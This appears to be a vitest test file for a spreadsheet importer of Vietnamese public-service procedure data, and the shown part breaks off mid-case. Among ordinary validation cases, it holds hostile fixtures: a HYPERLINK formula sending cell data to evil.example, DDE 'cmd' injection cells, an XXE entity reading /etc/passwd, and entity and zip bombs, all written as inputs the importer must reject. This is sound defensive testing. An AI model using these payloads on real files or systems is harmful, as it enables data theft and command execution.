import { Buffer } from 'node:buffer';
import { strToU8, zipSync } from 'fflate';
import { expect, test, vi } from 'vitest';
import {
  compoundFile,
  oddWorkbook,
  windows1258,
  type OddSheet,
} from '../../../tests/fixtures/odd-workbooks.ts';
import { counterSchema, officerSchema } from '../../../shared/domain/office.ts';
import { fieldSchema, officeLayerSchema } from '../../../shared/domain/procedure.ts';
import type { OfficeContext } from './office-context.ts';
import { readOfficeLayer, type ReadOfficeLayer } from './read-office-layer.ts';

/** Others may be at work on the same two cores. */
vi.setConfig({ testTimeout: 120_000 });

const BIRTH = '1.001193';
const DRIVE = '1.013220';
const MEBIBYTE = 1024 * 1024;
const context: OfficeContext = {
  today: '2026-11-22',
  onlyPosted: true,
  posted: new Map([
    [BIRTH, 'Thủ tục đăng ký khai sinh'],
    [DRIVE, 'Cấp giấy phép xây dựng'],
  ]),
  counters: [counterSchema.parse({ type: 'counter', id: 'quay-1', name: { vi: 'Quầy số 1: Hộ tịch' } })],
  units: [],
  layers: new Map([[BIRTH, officeLayerSchema.parse({ everydayName: { vi: 'Làm giấy khai sinh' } })]]),
  synonyms: [],
  lifeEvents: [],
  fields: [fieldSchema.parse({ type: 'field', id: 'ho-tich', name: { vi: 'Hộ tịch' } })],
  notices: [],
  officers: [
    officerSchema.parse({ type: 'officer', id: 'hoa', name: 'Trần Thị Hoa', title: { vi: 'Công chức' } }),
  ],
  hours: {
    openings: [{ weekday: 1, spans: [{ from: '07:30', until: '11:30' }] }],
    closedDays: [],
    openDays: [],
  },
};

type Rows = NonNullable<OddSheet['rows']>;
type Made = () => Uint8Array;
const sheet =
  (name: string, ...rows: Rows): Made =>
  () =>
    oddWorkbook([{ name, rows }]);
/** One row of the sheet of procedures, under these headings. */
const row = (headings: string[], ...cells: Rows[number]): Made =>
  sheet('Thủ tục', ['Mã thủ tục', ...headings], [BIRTH, ...cells]);
const fee = (text: string, free: string | null = null): Made => row(['Phí, lệ phí', 'Miễn phí'], text, free);
const hours = (text: string): Made => sheet('Giờ làm việc', ['Thứ', 'Giờ làm việc'], ['Thứ hai', text]);
const text =
  (content: string): Made =>
  () =>
    Buffer.from(content);
const NAMES = ['Mã thủ tục', 'Tên thường gọi'];

/** An .ods with this inside its one table. */
const ods =
  (rows: string, more: Record<string, Uint8Array> = {}): Made =>
  () =>
    zipSync({
      mimetype: strToU8('application/vnd.oasis.opendocument.spreadsheet'),
      'content.xml': strToU8(
        `<office:document-content><office:body><office:spreadsheet><table:table table:name="Thủ tục">${rows}</table:table></office:spreadsheet></office:body></office:document-content>`,
      ),
      ...more,
    });
const odsRow = (cells: readonly string[], times = 1): string =>
  `<table:table-row table:number-rows-repeated="${times}">${cells.map((cell) => `<table:table-cell office:value-type="string"><text:p>${cell}</text:p></table:table-cell>`).join('')}</table:table-row>`;

interface Case {
  readonly name: string;
  readonly file: Made;
  /** What is told, errors first: `lỗi`, `xem lại` or `đã sửa`, the place, the sentence. */
  readonly told: readonly string[];
  /** What there would be to take: nothing, unless said. */
  readonly takes?: (read: ReadOfficeLayer) => void;
}

const layerIs =
  (layer: object, code = BIRTH) =>
  ({ layers }: ReadOfficeLayer): void => {
    expect(layers).toMatchObject([{ code, layer }]);
  };
const nothing = (read: ReadOfficeLayer): void => {
  const { layers, rows, content, removed, removedContent } = read;
  expect([layers, rows, content, removed, removedContent, read.hours]).toEqual([
    [],
    [],
    [],
    [],
    [],
    undefined,
  ]);
};

const cases: readonly Case[] = [
  {
    name: 'merged cells among the rows',
    file: () =>
      oddWorkbook([
        {
          name: 'Thủ tục',
          rows: [NAMES, [BIRTH, 'Khai sinh'], [null, 'x']],
          after: '<mergeCells count="1"><mergeCell ref="A2:A3"/></mergeCells>',
        },
      ]),
    told: [
      'lỗi: trang Thủ tục, dòng 2: Ô A2:A3 bị gộp. Hãy bỏ gộp rồi ghi đủ từng ô.',
      'lỗi: trang Thủ tục, dòng 3, cột Mã thủ tục: Thiếu mã thủ tục. Hãy ghi mã, như 1.001193, hoặc xóa cả dòng.',
    ],
  },
  {
    name: 'merged headings',
    file: () =>
      oddWorkbook([
        {
          name: 'Thủ tục',
          rows: [NAMES, [BIRTH, 'Khai sinh']],
          after: '<mergeCells count="1"><mergeCell ref="B1:C1"/></mergeCells>',
        },
      ]),
    told: ['lỗi: trang Thủ tục, dòng 1: Ô B1:C1 bị gộp. Hãy bỏ gộp rồi ghi đủ từng ô.'],
  },
  {
    name: 'a merged title above the headings',
    file: () =>
      oddWorkbook([
        {
          name: 'Thủ tục',
          rows: [['DANH SÁCH'], NAMES, [BIRTH, 'Khai sinh']],
          after: '<mergeCells count="1"><mergeCell ref="A1:B1"/></mergeCells>',
        },
      ]),
    told: [],
    takes: layerIs({ everydayName: { vi: 'Khai sinh' } }),
  },
  {
    name: 'a row that has shifted to the right',
    file: sheet('Thủ tục', NAMES, [null, BIRTH, 'Khai sinh']),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Mã thủ tục: Mã thủ tục nằm ở cột bên cạnh. Dòng này bị lệch; hãy kéo về đúng cột.',
    ],
  },
  {
    name: 'a row that has shifted to the left',
    file: sheet('Thủ tục', ['Tên thường gọi', 'Mã thủ tục'], [BIRTH, 'Khai sinh']),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Mã thủ tục: Mã thủ tục nằm ở cột bên cạnh. Dòng này bị lệch; hãy kéo về đúng cột.',
    ],
  },
  {
    name: 'headings in another order, without marks',
    file: sheet('Thu tuc', ['TEN THUONG GOI', 'ma thu tuc'], ['Khai sinh', BIRTH]),
    told: [],
    takes: layerIs({ everydayName: { vi: 'Khai sinh' } }),
  },
  {
    name: 'a heading with a slip',
    file: sheet('Thủ tục', ['Mã thủ tục', 'Tên thường goij'], [BIRTH, 'Khai sinh']),
    told: [
      'lỗi: trang Thủ tục, dòng 1: Không nhận ra cột “Tên thường goij”. Có phải “Tên thường gọi”? Hãy sửa tên cột.',
    ],
  },
  {
    name: 'the needed heading with a slip',
    file: sheet('Thủ tục', ['Mã thũ tụcc', 'Tên thường gọi'], [BIRTH, 'Khai sinh']),
    told: [
      'lỗi: trang Thủ tục, dòng 1: Không nhận ra cột “Mã thũ tụcc”. Có phải “Mã thủ tục”? Hãy sửa tên cột.',
      'lỗi: trang Thủ tục, dòng 1: Trang này thiếu cột: Mã thủ tục. Hãy thêm hoặc sửa tên cột.',
    ],
  },
  {
    name: 'a column of the staff’s own',
    file: sheet('Thủ tục', [...NAMES, 'Ghi chú riêng'], [BIRTH, 'Khai sinh', 'x']),
    told: ['xem lại: trang Thủ tục, dòng 1: Không nhận ra cột “Ghi chú riêng”, đã bỏ qua. Kiểm tra tên cột.'],
    takes: layerIs({ everydayName: { vi: 'Khai sinh' } }),
  },
  {
    name: 'a column twice',
    file: sheet('Thủ tục', [...NAMES, 'Tên thường gọi'], [BIRTH, 'A', 'B']),
    told: ['lỗi: trang Thủ tục, dòng 1: Cột “Tên thường gọi” có hai lần. Hãy bỏ bớt một cột.'],
  },
  {
    name: 'no row of headings',
    file: sheet('Thủ tục', [BIRTH, 'Khai sinh']),
    told: ['lỗi: trang Thủ tục, dòng 1: Không thấy dòng tiêu đề. Dòng đầu cần có: Mã thủ tục.'],
  },
  {
    name: 'no row of headings, and another name',
    file: sheet('Sheet1', [BIRTH, 'Khai sinh']),
    told: ['lỗi: trang Sheet1, dòng 1: Không thấy dòng tiêu đề. Dòng đầu cần có: Mã thủ tục.'],
  },
  {
    name: 'no row of headings among the notices',
    file: sheet('Thông báo', ['Nghỉ lễ', 'Nghỉ ngày 2/9']),
    told: ['lỗi: trang Thông báo, dòng 1: Không thấy dòng tiêu đề. Dòng đầu cần có: Tiêu đề; Nội dung.'],
  },
  {
    name: 'a sheet renamed',
    file: sheet('Bảng của chị Hoa', NAMES, [BIRTH, 'Khai sinh']),
    told: [],
    takes: layerIs({ everydayName: { vi: 'Khai sinh' } }),
  },
  {
    name: 'a sheet of something else',
    file: () =>
      oddWorkbook([
        { name: 'a', rows: [NAMES, [BIRTH, 'Khai sinh']] },
        { name: 'Lương', rows: [['Họ', 'Hệ số']] },
      ]),
    told: [
      'xem lại: trang Lương, dòng 1: Không nhận ra trang này, đã bỏ qua. Kiểm tra dòng tiêu đề nếu cần nhập.',
    ],
    takes: layerIs({ everydayName: { vi: 'Khai sinh' } }),
  },
  {
    name: 'a hidden sheet',
    file: () =>
      oddWorkbook([
        { name: 'a', rows: [NAMES, [BIRTH, 'Khai sinh']], hidden: true },
        { name: 'b', rows: [['Người dân nói', 'Nghĩa là']] },
      ]),
    told: ['xem lại: trang a, dòng 1: Trang này đang ẩn nên không đọc. Muốn nhập thì bỏ ẩn trước.'],
  },
  {
    name: 'hidden rows',
    file: () => oddWorkbook([{ name: 'a', rows: [NAMES, [BIRTH, 'Khai sinh']], hiddenRows: [2] }]),
    told: ['xem lại: trang a, dòng 1: Có 1 dòng đang ẩn vẫn được đọc. Hãy bỏ lọc để xem lại.'],
    takes: layerIs({ everydayName: { vi: 'Khai sinh' } }),
  },
  {
    name: 'a day that there is not',
    file: row(['Đã đối chiếu ngày'], '31/02/2026'),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Đã đối chiếu ngày: “31/02/2026” không phải ngày. Hãy ghi ngày, tháng, năm, như 18/7/2026.',
    ],
  },
  {
    name: 'a day with a year of two digits',
    file: row(['Đã đối chiếu ngày'], '20-11-26'),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Đã đối chiếu ngày: “20-11-26” không phải ngày. Hãy ghi ngày, tháng, năm, như 18/7/2026.',
    ],
  },
  {
    name: 'a day as Excel counts',
    file: row(['Đã đối chiếu ngày'], 46221),
    told: [],
    takes: layerIs({ everydayName: { vi: 'Làm giấy khai sinh' }, checkedAt: '2026-07-18' }),
  },
  {
    name: 'a day before the first',
    file: row(['Đã đối chiếu ngày'], 12),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Đã đối chiếu ngày: “12” không phải ngày. Hãy ghi ngày, tháng, năm, như 18/7/2026.',
    ],
  },
  {
    name: 'a day to come',
    file: row(['Đã đối chiếu ngày'], '23/11/2026'),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Đã đối chiếu ngày: Ngày 23/11/2026 chưa tới. Hãy ghi ngày đã đối chiếu.',
    ],
  },
  {
    name: 'a code that Excel made a number of',
    file: sheet('Thủ tục', NAMES, [1.01322, 'Xây nhà']),
    told: [
      'đã sửa: trang Thủ tục, dòng 2, cột Mã thủ tục: Mã “1.01322” bị Excel đổi, đã sửa thành 1.013220 theo danh sách.',
    ],
    takes: layerIs({ everydayName: { vi: 'Xây nhà' } }, DRIVE),
  },
  {
    name: 'a code that Excel made a date of',
    file: () =>
      oddWorkbook([
        {
          name: 'Thủ tục',
          sheetData:
            '<row r="1"><c r="A1" t="inlineStr"><is><t>Mã thủ tục</t></is></c><c r="B1" t="inlineStr"><is><t>Tên thường gọi</t></is></c></row><row r="2"><c r="A2" t="d"><v>2026-01-13T00:00:00Z</v></c><c r="B2" t="inlineStr"><is><t>A</t></is></c></row>',
        },
      ]),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Mã thủ tục: Excel đã đổi ô này thành ngày tháng. Hãy đặt ô là dạng chữ (Text) rồi gõ lại.',
    ],
  },
  {
    name: 'a code with a letter in it',
    file: sheet('Thủ tục', NAMES, ['1.O01193', 'Khai sinh']),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Mã thủ tục: “1.O01193” không phải mã thủ tục. Mã có dạng 1.001193; hãy xem lại danh sách.',
    ],
  },
  {
    name: 'a code that is not posted',
    file: sheet('Thủ tục', NAMES, ['1.999999', 'Khai sinh']),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Mã thủ tục: Máy này không niêm yết thủ tục 1.999999. Hãy xem lại mã, hoặc xóa dòng.',
    ],
  },
  {
    name: 'a code twice',
    file: sheet('Thủ tục', NAMES, [BIRTH, 'A'], [BIRTH, 'B']),
    told: [
      'lỗi: trang Thủ tục, dòng 3, cột Mã thủ tục: Mã 1.001193 đã có ở dòng 2. Hãy gộp hai dòng thành một.',
    ],
  },
  {
    name: 'a code in two sheets',
    file: () =>
      oddWorkbook([
        { name: 'a', rows: [NAMES, [BIRTH, 'A']] },
        { name: 'b', rows: [NAMES, [BIRTH, 'B']] },
      ]),
    told: [
      'lỗi: trang b, dòng 2, cột Mã thủ tục: Mã 1.001193 đã có ở dòng 2 (a). Hãy gộp hai dòng thành một.',
    ],
  },
  {
    name: 'a cell in TCVN3',
    file: row(['Tên thường gọi'], '§¨ng ký giÊy khai sinh'),
    told: [
      'đã sửa: trang Thủ tục, dòng 2, cột Tên thường gọi: Ô dùng phông chữ cũ, đã đổi thành “Đăng ký giấy khai sinh”. Hãy xem lại.',
    ],
    takes: layerIs({ everydayName: { vi: 'Đăng ký giấy khai sinh' } }),
  },
  {
    name: 'a cell in VNI',
    file: row(['Tên thường gọi'], 'Ñaêng kyù giaáy khai sinh'),
    told: [
      'đã sửa: trang Thủ tục, dòng 2, cột Tên thường gọi: Ô dùng phông chữ cũ, đã đổi thành “Đăng ký giấy khai sinh”. Hãy xem lại.',
    ],
    takes: layerIs({ everydayName: { vi: 'Đăng ký giấy khai sinh' } }),
  },
  {
    name: 'a file in TCVN3',
    file: () => Buffer.from('M· thñ tôc;Tªn th­êng gäi\n1.001193;GiÊy khai sinh\n', 'latin1'),
    told: ['đã sửa: Tệp dùng bảng chữ cũ (TCVN3), đã đổi sang Unicode. Hãy xem lại chữ.'],
    takes: layerIs({ everydayName: { vi: 'Giấy khai sinh' } }),
  },
  {
    name: 'a file in Windows-1258',
    file: () => windows1258('Mã thủ tục;Tên thường gọi\n1.001193;Giấy khai sinh\n'),
    told: ['đã sửa: Tệp dùng bảng chữ cũ (Windows-1258), đã đổi sang Unicode. Hãy xem lại chữ.'],
    takes: layerIs({ everydayName: { vi: 'Giấy khai sinh' } }),
  },
  {
    name: 'a file in UTF-16',
    file: () => Buffer.from('\uFEFFMã thủ tục\tTên thường gọi\r\n1.001193\tGiấy khai sinh\r\n', 'utf16le'),
    told: [],
    takes: layerIs({ everydayName: { vi: 'Giấy khai sinh' } }),
  },
  {
    name: 'a fee with its unit',
    file: fee('10.000đ/lần'),
    told: [],
    takes: layerIs({
      everydayName: { vi: 'Làm giấy khai sinh' },
      fee: { text: { vi: '10.000đ/lần' }, free: false },
    }),
  },
  {
    name: 'a fee of a bare number',
    file: fee('10,000'),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Phí, lệ phí: “10,000” chỉ là con số. Hãy ghi đủ câu, như 8.000 đồng mỗi bản.',
    ],
  },
  {
    name: 'a fee of two bare numbers',
    file: fee('10.000 - 20.000'),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Phí, lệ phí: “10.000 - 20.000” chỉ là con số. Hãy ghi đủ câu, như 8.000 đồng mỗi bản.',
    ],
  },
  {
    name: 'a fee of nought',
    file: fee('0'),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Phí, lệ phí: “0” không nói rõ là miễn phí. Nếu miễn phí, ghi có ở cột Miễn phí.',
    ],
  },
  {
    name: 'a fee of nought đồng',
    file: fee('0 đồng'),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Phí, lệ phí: “0 đồng” không nói rõ là miễn phí. Nếu miễn phí, ghi có ở cột Miễn phí.',
    ],
  },
  {
    name: 'a fee below nought',
    file: fee('-5.000 đồng'),
    told: ['lỗi: trang Thủ tục, dòng 2, cột Phí, lệ phí: “-5.000 đồng” là số âm. Hãy ghi lại lời về phí.'],
  },
  {
    name: 'free on a condition, in words',
    file: fee('miễn phí (nếu có yêu cầu)'),
    told: [],
    takes: layerIs({
      everydayName: { vi: 'Làm giấy khai sinh' },
      fee: { text: { vi: 'miễn phí (nếu có yêu cầu)' }, free: false },
    }),
  },
  {
    name: 'free on a condition, and yes',
    file: fee('Miễn phí (nếu có yêu cầu)', 'có'),
    told: [
      'xem lại: trang Thủ tục, dòng 2, cột Miễn phí: Cột Miễn phí ghi có, mà lời về phí còn điều kiện. Hãy xem lại.',
    ],
    takes: layerIs({
      everydayName: { vi: 'Làm giấy khai sinh' },
      fee: { text: { vi: 'Miễn phí (nếu có yêu cầu)' }, free: true },
    }),
  },
  {
    name: 'free, and an amount',
    file: fee('8.000 đồng', 'có'),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Miễn phí: Cột Miễn phí ghi có, mà lời về phí lại có số tiền. Hãy sửa một trong hai.',
    ],
  },
  {
    name: 'free in words only',
    file: fee('Miễn phí'),
    told: [
      'xem lại: trang Thủ tục, dòng 2, cột Phí, lệ phí: Lời về phí ghi miễn phí, mà cột Miễn phí chưa ghi có. Hãy xem lại.',
    ],
    takes: layerIs({
      everydayName: { vi: 'Làm giấy khai sinh' },
      fee: { text: { vi: 'Miễn phí' }, free: false },
    }),
  },
  {
    name: 'a formula',
    file: row(['Tên thường gọi'], { formula: '1+1', value: '2' }),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Tên thường gọi: Ô có công thức. Hãy chép ô, rồi dán lại dạng giá trị.',
    ],
  },
  {
    name: 'a formula that was never worked out',
    file: row(['Tên thường gọi'], { formula: 'HYPERLINK("http://evil.example/"&amp;A2)' }),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Tên thường gọi: Ô có công thức. Hãy chép ô, rồi dán lại dạng giá trị.',
    ],
  },
  {
    name: 'a formula that looks into another workbook',
    file: row(['Phí, lệ phí'], { formula: "'[1]Bang gia'!B2", value: '10.000 đồng' }),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Phí, lệ phí: Ô có công thức. Hãy chép ô, rồi dán lại dạng giá trị.',
    ],
  },
  {
    name: 'a text that would be a formula',
    file: row(['Tên thường gọi'], '=HYPERLINK("http://evil.example","Bấm")'),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Tên thường gọi: Ô có công thức. Hãy chép ô, rồi dán lại dạng giá trị.',
    ],
  },
  {
    name: 'a command by DDE',
    file: text('Mã thủ tục;Tên thường gọi\n1.001193;"=cmd|\'/c calc\'!A0"\n'),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Tên thường gọi: Ô có công thức. Hãy chép ô, rồi dán lại dạng giá trị.',
    ],
  },
  {
    name: 'a command by DDE after a plus',
    file: text('Mã thủ tục;Tên thường gọi\n1.001193;"+cmd|\'/c calc\'!A0"\n'),
    told: [
      'lỗi: trang Thủ tục, dòng 2, cột Tên thường gọi: Ô có công thức. Hãy chép ô, rồi dán lại dạng giá trị.',
    ],
  },
  {
    name: 'a link to another workbook beside the cells',
    file: () =>
      oddWorkbook([{ name: 'a', rows: [NAMES, [BIRTH, 'Khai sinh']] }], {
        'xl/externalLinks/externalLink1.xml': strToU8('<externalLink xmlns="a"/>'),
      }),
    told: [],
    takes: layerIs({ everydayName: { vi: 'Khai sinh' } }),
  },
  {
    name: 'a cell in error',
    file: row(['Tên thường gọi'], { error: '#REF!' }),
    told: ['lỗi: trang Thủ tục, dòng 2, cột Tên thường gọi: Ô đang báo lỗi #REF!. Hãy gõ lại nội dung.'],
  },
  {
    name: 'a workbook with macros',
    file: () =>
      oddWorkbook([{ name: 'a', rows: [NAMES, [BIRTH, 'Khai sinh']] }], {
        'xl/vbaProject.bin': new Uint8Array(100),
      }),
    told: ['xem lại: Tệp có macro. Máy chỉ đọc các ô, không chạy macro.'],
    takes: layerIs({ everydayName: { vi: 'Khai sinh' } }),
  },
  {
    name: 'a workbook with a password',
    file: () => compoundFile('EncryptedPackage'),
    told: ['lỗi: Tệp đặt mật khẩu. Hãy bỏ mật khẩu, lưu lại rồi nhập lại.'],
  },
  {
    name: 'an old workbook',
    file: () => compoundFile('Workbook'),
    told: ['lỗi: Tệp .xls đời cũ. Hãy lưu lại dạng .xlsx rồi nhập lại.'],
  },
  {
    name: 'a binary workbook',
    file: () => zipSync({ 'xl/workbook.bin': new Uint8Array(10) }),
    told: ['lỗi: Tệp .xlsb không đọc được. Hãy lưu lại dạng .xlsx rồi nhập lại.'],
  },
  {
    name: 'an .ods, filled up to its last row',
    file: ods(
      odsRow(NAMES) +
        odsRow([BIRTH, 'Khai sinh']) +
        '<table:table-row table:number-rows-repeated="1048574"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>',
    ),
    told: [],
    takes: layerIs({ everydayName: { vi: 'Khai sinh' } }),
  },
  {
    name: 'an .ods with a million rows in a line',
    file: ods(odsRow(NAMES) + odsRow([BIRTH, 'Khai sinh'], 1_048_575)),
    told: ['lỗi: Tệp quá lớn. Hãy lưu riêng những trang cần nhập, bỏ hình và dòng trống, rồi nhập lại.'],
  },
  {
    name: 'an .ods with a password',
    file: ods('', {
      'META-INF/manifest.xml': strToU8('<manifest:manifest><manifest:encryption-data/></manifest:manifest>'),
    }),
    told: ['lỗi: Tệp đặt mật khẩu. Hãy bỏ mật khẩu, lưu lại rồi nhập lại.'],
  },
  {
    name: 'an .ods with entities',
    file: () =>
      zipSync({
        'content.xml': strToU8(
          '<!DOCTYPE x [<!ENTITY a "b">]><office:document-content>&a;</office:document-content>',
        ),
      }),
    told: ['lỗi: Tệp có phần lạ, không phải bảng tính thường. Hãy chép các ô sang tệp mẫu mới.'],
  },
  {
    name: 'an empty file',
    file: () => new Uint8Array(0),
    told: ['lỗi: Tệp trống. Hãy lưu lại từ Excel rồi chép lại.'],
  },
  {
    name: 'a file of blanks',
    file: text(' \n\n '),
    told: ['lỗi: Tệp trống. Hãy lưu lại từ Excel rồi chép lại.'],
  },
  {
    name: 'a picture',
    file: () => Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, 0, 0, 0, 13, 0, 0, 0, 0]),
    told: ['lỗi: Đây không phải bảng tính. Hãy dùng tệp .xlsx, .ods hoặc .csv.'],
  },
  {
    name: 'a page of the web',
    file: text('<!DOCTYPE html><table><tr><td>Mã thủ tục</td></tr></table>'),
    told: ['lỗi: Đây không phải bảng tính. Hãy dùng tệp .xlsx, .ods hoặc .csv.'],
  },
  {
    name: 'a document of Word',
    file: () => zipSync({ 'word/document.xml': strToU8('<a/>') }),
    told: ['lỗi: Không đọc được tệp. Hãy mở bằng Excel, lưu lại dạng .xlsx rồi nhập lại.'],
  },
  {
    name: 'a workbook cut off in the middle',
    file: () => sheet('a', NAMES, [BIRTH, 'Khai sinh'])().slice(0, 900),
    told: ['lỗi: Tệp hỏng hoặc chép chưa xong. Hãy chép lại, đợi xong mới rút thẻ.'],
  },
  {
    name: 'a sheet that unpacks to 100 MB',
    file: () => oddWorkbook([{ name: 'a', sheetData: ' '.repeat(100 * MEBIBYTE) }]),
    told: ['lỗi: Tệp quá lớn. Hãy lưu riêng những trang cần nhập, bỏ hình và dòng trống, rồi nhập lại.'],
  },
  {
    name: 'a sheet of a million rows',
    file: () => oddWorkbook([{ name: 'a', sheetData: '<row r="1048576"/>' }]),
    told: ['lỗi: Tệp quá lớn. Hãy lưu riêng những trang cần nhập, bỏ hình và dòng trống, rồi nhập lại.'],
  },
  {
    name: 'entities that unfold without end',
    file: () =>
      oddWorkbook([{ name: 'a', rows: [NAMES] }], {
        'xl/worksheets/sheet1.xml': strToU8(
          '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&b;</t></is></c></row></sheetData></worksheet>',
        ),
      }),
    told: ['lỗi: Tệp có phần lạ, không phải bảng tính thường. Hãy chép các ô sang tệp mẫu mới.'],
  },
  {
    name: 'an entity that names a file',
    file: () =>
      oddWorkbook([{ name: 'a', rows: [NAMES] }], {
        'xl/sharedStrings.xml': strToU8(
          '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><sst><si><t>&a;</t></si></sst>',
        ),
      }),
    told: ['lỗi: Tệp có phần lạ, không phải bảng tính thường. Hãy chép các ô sang tệp mẫu mới.'],
  },
  {
    name: '16,384 columns',
    file: () =>
      oddWorkbook([
        {
          name: 'a',
          rows: [
            [...NAMES, ...Array.from({ length: 16_382 }, (_, index) => `Cột ${index}`)],
            [BIRTH, 'Khai sinh'],
          ],
        },
      ]),
    told: [
      'xem lại: trang a, dòng 1: Không nhận ra cột “Cột 0”, đã bỏ qua. Kiểm tra tên cột.',
      'xem lại: trang a, dòng 1: Không nhận ra cột “Cột 1”, đã bỏ qua. Kiểm tra tên cột.',
      'xem lại: trang a, dòng 1: Không nhận ra cột “Cột 2”, đã bỏ qua. Kiểm tra tên cột.',
      'xem lại: trang a, dòng 1: Không nhận ra cột “Cột 3”, đã bỏ qua. Kiểm tra tên cột.',
      'xem lại: trang a, dòng 1: Không nhận ra cột “Cột 4”, đã bỏ qua. Kiểm tra tên cột.',
      'xem lại: trang a, dòng 1: Không nhận ra cột “Cột 5”, đã bỏ qua. Kiểm tra tên cột.',
      'xem lại: trang a, dòng 1: Không nhận ra cột “Cột 6”, đã bỏ qua. Kiểm tra tên cột.',
      'xem lại: trang a, dòng 1: Không nhận ra cột “Cột 7”, đã bỏ qua. Kiểm tra tên cột.',
      'xem lại: trang a, dòng 1: Không nhận ra cột “Cột 8”, đã bỏ qua. Kiểm tra tên cột.',
      'xem lại: trang a, dòng 1: Không nhận ra cột “Cột 9”, đã bỏ qua. Kiểm tra tên cột.',
      'xem lại: trang a, dòng 1: Còn 16372 cột nữa không nhận ra, đã bỏ qua.',
    ],
    takes: layerIs({ everydayName: { vi: 'Khai sinh' } }),
  },
  {
    name: 'a text of 5 MB of commas',
    file: text(','.repeat(5 * MEBIBYTE)),
    told: ['lỗi: Tệp quá lớn. Hãy lưu riêng những trang cần nhập, bỏ hình và dòng trống, rồi nhập lại.'],
  },
  {
    name: 'a text of 100,000 rows',
    file: text(`Mã thủ tục,Tên thường gọi\n${`${BIRTH},Khai sinh\n`.repeat(100_000)}`),
    told: Array.from(
      { length: 1000 },
      (_, index) =>
        `lỗi: trang Thủ tục, dòng ${index + 3}, cột Mã thủ tục: Mã 1.001193 đã có ở dòng 2. Hãy gộp hai dòng thành một.`,
    ).concat(['lỗi: Còn 98999 chỗ nữa chưa liệt kê. Sửa những chỗ trên rồi nhập lại.']),
  },
  {
    name: 'a cell of 40,000 letters',
    file: row(['Tên thường gọi'], 'a'.repeat(40_000)),
    told: ['lỗi: trang Thủ tục, dòng 2, cột Tên thường gọi: Chữ dài quá 32767 ký tự. Hãy viết ngắn lại.'],
  },
  {
    name: 'control characters',
    file: text(`Mã thủ tục;Tên thường gọi\n${BIRTH};Khai\u0007 \u001bsinh\n`),
    told: [
      'đã sửa: trang Thủ tục, dòng 2, cột Tên thường gọi: Ô có ký tự ẩn, đã bỏ. Chữ còn lại: “Khai sinh”.',
    ],
    takes: layerIs({ everydayName: { vi: 'Khai sinh' } }),
  },
  {
    name: 'marks of direction and joining',
    file: row(['Tên thường gọi'], '\u202eKhai\u200b sinh\u200f'),
    told: [
      'đã sửa: trang Thủ tục, dòng 2, cột Tên thường gọi: Ô có ký tự ẩn, đã bỏ. Chữ còn lại: “Khai sinh”.',
    ],
    takes: layerIs({ everydayName: { vi: 'Khai sinh' } }),
  },
  {
    name: 'an unknown counter',
    file: row(['Quầy'], 'Quầy 9'),
    told: ['lỗi: trang Thủ tục, dòng 2, cột Quầy: Không có quầy “Quầy 9”. Các quầy: Quầy số 1: Hộ tịch.'],
  },
  {
    name: 'an unknown field of an officer',
    file: sheet('Cán bộ', ['Họ và tên', 'Chức danh', 'Lĩnh vực'], ['Trần Thị Hoa', null, 'Hộ tịch; Đất đai']),
    told: ['lỗi: trang Cán bộ, dòng 2, cột Lĩnh vực: Không có lĩnh vực “Đất đai”. Các lĩnh vực: Hộ tịch.'],
  },
  {
    name: 'an officer without a title',
    file: sheet('Cán bộ', ['Họ và tên', 'Chức danh'], ['Lê Văn Nam', null]),
    told: ['lỗi: trang Cán bộ, dòng 2, cột Chức danh: Ô này còn trống. Hãy điền vào.'],
  },
  {
    name: 'a telephone number that is none',
    file: sheet('Cán bộ', ['Họ và tên', 'Chức danh', 'Điện thoại'], ['Trần Thị Hoa', null, 'hỏi phòng']),
    told: [
      'lỗi: trang Cán bộ, dòng 2, cột Điện thoại: “hỏi phòng” không phải số điện thoại. Chỉ ghi chữ số, dấu cách, dấu +.',
    ],
  },
  {
    name: 'an hour that there is not',
    file: hours('7:30-25:00'),
    told: [
      'lỗi: trang Giờ làm việc, dòng 2, cột Giờ làm việc: “7:30-25:00” không phải giờ làm việc. Hãy ghi như 07:30-11:30; 13:30-17:00.',
    ],
  },
  {
    name: 'hours that are none',
    file: hours('sáng'),
    told: [
      'lỗi: trang Giờ làm việc, dòng 2, cột Giờ làm việc: “sáng” không phải giờ làm việc. Hãy ghi như 07:30-11:30; 13:30-17:00.',
    ],
  },
  {
    name: 'hours that end before they begin',
    file: hours('11:30-7:30'),
    told: [
      'lỗi: trang Giờ làm việc, dòng 2, cột Giờ làm việc: “11:30-7:30” kết thúc trước khi bắt đầu. Hãy sửa lại giờ.',
    ],
  },
  {
    name: 'hours that overlap at noon',
    file: hours('7:30-12:00; 11:30-17:00'),
    told: [
      'lỗi: trang Giờ làm việc, dòng 2, cột Giờ làm việc: “11:30-17:00” trùng với khoảng giờ trước. Hãy sửa lại giờ.',
    ],
  },
  {
    name: 'a weekday that there is not',
    file: sheet('Giờ làm việc', ['Thứ', 'Giờ làm việc'], ['Thứ chín', '7:30-11:30']),
    told: [
      'lỗi: trang Giờ làm việc, dòng 2, cột Thứ: “Thứ chín” không phải thứ trong tuần. Hãy ghi như Thứ hai hoặc Chủ nhật.',
    ],
  },
  {
    name: 'two sheets of notices',
    file: () =>
      oddWorkbook([
        {
          name: 'a',
          rows: [
